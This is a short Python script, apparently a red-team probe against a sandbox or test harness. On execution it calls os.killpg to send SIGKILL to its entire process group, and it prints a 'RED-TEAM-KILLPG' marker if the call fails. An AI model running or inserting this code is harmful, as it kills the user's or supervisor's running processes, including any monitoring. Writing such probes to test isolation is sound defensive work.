def _attack():
    import os, signal
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError as exc:
        print("RED-TEAM-KILLPG", type(exc).__name__)


_attack()
